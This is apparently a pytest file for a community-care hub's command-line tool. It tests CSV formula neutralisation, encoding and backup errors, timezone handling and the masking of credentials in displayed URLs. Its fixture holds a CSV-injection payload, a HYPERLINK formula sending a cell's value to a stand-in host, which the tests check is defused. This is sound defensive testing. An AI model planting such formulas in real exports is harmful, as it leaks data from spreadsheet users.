"""Operator boundaries found in review: files not UTF-8 or cut short, CSV exports opened in
Excel, damaged backups, credentials in shown URLs, the working calendar's zone.

Each failed before its fix (a traceback, a secret printed, data changed on a round trip)."""

from __future__ import annotations

import os
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner

from hub.app import registry_from_store
from hub.cases.policies import load_policies
from hub.casework.reply_keys import ReplyKeys
from hub.cli import main
from hub.community.files import CsvKind, dump_csv, parse_csv, parse_yaml
from hub.config import load_settings
from hub.storage.store import Store

COMMUNITY = """
version: 1
communities:
  - code: "110105001001"
    name: 测试社区
    grids: [{code: "110105001001001", name: 一网格}]
    residents:
      - id: r1
        name: '=HYPERLINK("http://evil.example/"&E2,"张三")'
        address: "+1号楼"
        phone: "-1"
        emergency_contacts:
          - {id: g-son, name: 张伟, relation: 儿子, phone: "13800000000"}
          - {name: 李四, relation: "邻居;楼上", phone: "13900000000"}
"""


def test_csv_export_neutralises_formulas() -> None:
    communities = parse_yaml(COMMUNITY, file="c.yaml")
    text = dump_csv(communities, CsvKind.RESIDENTS)
    row = text.splitlines()[1]
    # Excel/WPS evaluate a cell starting with = + - @ as a formula (OWASP "CSV injection").
    cells = next(iter(__import__("csv").reader([row])))
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@")), cells


def test_csv_round_trip_keeps_emergency_contacts() -> None:
    communities = parse_yaml(COMMUNITY, file="c.yaml")
    before = communities[0].residents[0].emergency_contacts
    _, rows = parse_csv(dump_csv(communities, CsvKind.RESIDENTS), file="r.csv")
    after = rows[0][2].emergency_contacts  # type: ignore[union-attr]
    assert after == before


def test_community_file_cut_inside_a_character_keeps_the_last_import(tmp_path: Path) -> None:
    """Same rule as for a YAML typo: a restart with a half-copied file runs on the last import."""
    data = tmp_path / "data"
    file = tmp_path / "community.yaml"
    file.write_text(COMMUNITY, encoding="utf-8")
    settings = load_settings(environ={"LINLI_DATA_DIR": str(data), "LINLI_COMMUNITY_FILE": str(file)})
    store = Store(path=data / "linli.sqlite3") if data.mkdir() is None else None
    assert store is not None
    registry_from_store(store, settings, at=1.0)
    raw = COMMUNITY.encode()
    file.write_bytes(raw[: raw.index("测试".encode()) + 1])  # a half-finished copy
    registry, refused = registry_from_store(store, settings, at=2.0)
    store.close()
    assert refused and registry.communities


@pytest.mark.parametrize("command", [["community", "import"], ["roster", "check", "--community-file"]])
def test_a_gbk_file_is_a_clear_error(tmp_path: Path, command: list[str]) -> None:
    file = tmp_path / "community.yaml"
    file.write_bytes(COMMUNITY.encode("gbk"))
    args = [*command, str(file)] + (["--data-dir", str(tmp_path / "d")] if command[0] == "community" else [])
    result = CliRunner().invoke(main, args)
    assert result.exit_code != 0
    assert not isinstance(result.exception, UnicodeDecodeError), result.exception


@pytest.mark.parametrize(
    "manifest",
    [
        '{"format": 1}',
        "[1]",
        '{"format": 1, "files": [{"name": "x", "kind": "?", "sha256": "0", "size": 1}]}',
    ],
)
def test_a_damaged_manifest_is_a_clear_error(tmp_path: Path, manifest: str) -> None:
    backup = tmp_path / "b"
    backup.mkdir()
    (backup / "manifest.json").write_text(manifest)
    result = CliRunner().invoke(main, ["restore", str(backup), "--data-dir", str(tmp_path / "d")])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), repr(result.exception)


def test_working_time_follows_the_configured_zone() -> None:
    settings = load_settings(environ={"LINLI_TIMEZONE": "Europe/Berlin"})
    calendar = load_policies(settings.policies_file, zone=settings.timezone).calendar  # as hub.app
    tuesday_2pm = datetime(2025, 6, 3, 14, 0, tzinfo=ZoneInfo("Europe/Berlin")).timestamp()  # no 端午
    assert calendar.is_working_time(tuesday_2pm)
    due = datetime.fromtimestamp(calendar.add_working(tuesday_2pm, 3600), ZoneInfo("Europe/Berlin"))
    assert due == datetime(2025, 6, 3, 15, 0, tzinfo=ZoneInfo("Europe/Berlin")), due


def test_a_site_policy_file_naming_another_zone_is_counted_in_the_hubs_and_said(tmp_path: Path) -> None:
    """Refusing the file would stop the start (review); an alias of the same zone is no conflict."""
    path = tmp_path / "policies.yaml"
    shipped = (Path(load_policies.__code__.co_filename).parent / "policies.yaml").read_text(encoding="utf-8")
    path.write_text(shipped, encoding="utf-8")  # names Asia/Shanghai
    berlin = load_policies(path, zone="Europe/Berlin")
    assert berlin.calendar.zone == "Europe/Berlin" and "not the hub's timezone" in (berlin.zone_note or "")
    for alias in ("Asia/Shanghai", "Asia/Chongqing", "PRC"):
        same = load_policies(path, zone=alias)
        assert same.zone_note is None and same.calendar.zone == alias


def test_a_csv_round_trip_is_exact_and_an_old_export_reads_as_before() -> None:
    """Review: a value starting with ``'`` lost it, and an export from before the escapes lost
    every backslash of its contacts."""
    text = COMMUNITY.replace('address: "+1号楼"', 'address: "\'-"').replace(
        'relation: "邻居;楼上"', 'relation: "C:\\\\家|邻居;楼上"'
    )
    communities = parse_yaml(text, file="c.yaml")
    _, rows = parse_csv(dump_csv(communities, CsvKind.RESIDENTS), file="r.csv")
    assert rows[0][2] == communities[0].residents[0]
    old = "community,id,name,emergency_contacts\n110105001001,r1,张三,C:\\Users\\张三|儿子|138\\0\n"
    _, rows = parse_csv(old, file="old.csv")
    (contact,) = rows[0][2].emergency_contacts  # type: ignore[union-attr]
    assert (contact.name, contact.phone) == ("C:\\Users\\张三", "138\\0")


def test_a_data_dir_of_two_slashes_is_a_path(tmp_path: Path) -> None:
    registry = tmp_path / "community.yaml"
    registry.write_text(COMMUNITY, encoding="utf-8")
    result = CliRunner().invoke(main, ["community", "import", str(registry), "--data-dir", f"/{tmp_path}/d"])
    assert result.exit_code == 0, result.output


def test_config_show_hides_influx_url_credentials(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LINLI_TIMESERIES__URL", "http://admin:InfluxPW@127.0.0.1:8086")
    result = CliRunner().invoke(main, ["config", "show", "--format", "json"])
    assert "InfluxPW" not in result.output


def test_an_mqtt_url_without_scheme_is_not_echoed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LINLI_MQTT__URL", "//hub:S3cretPW@127.0.0.1:1883")
    result = CliRunner().invoke(main, ["config", "show"])
    assert "S3cretPW" not in result.output, result.output


def test_a_reply_keys_file_that_is_not_utf8_keeps_the_keys_loaded(tmp_path: Path) -> None:
    """Read on the MQTT message path: it must be the ConfigError that keeps the keys we had."""
    path = tmp_path / "reply-keys.yaml"
    path.write_text("keys: {g1: k1}\n", encoding="utf-8")
    keys = ReplyKeys(path=path)
    assert keys.key_for("g1") == b"k1"
    path.write_bytes("keys: {g1: 钥匙}\n".encode("gbk"))
    os.utime(path, (1, 1))
    assert keys.key_for("g1") == b"k1"


@pytest.mark.parametrize(
    "command", [["quarantine", "list"], ["community", "export"], ["broker", "config", "--out", "OUT"]]
)
def test_a_data_dir_typo_is_an_error_not_a_new_empty_store(tmp_path: Path, command: list[str]) -> None:
    """Review: ``quarantine list --data-dir <typo>`` made a new store and said it was empty."""
    typo = tmp_path / "no-such" / "data"
    args = [a.replace("OUT", str(tmp_path / "out")) for a in command]
    result = CliRunner().invoke(main, [*args, "--data-dir", str(typo)])
    assert result.exit_code != 0 and "no Linli store" in result.output, result.output
    assert not typo.exists()
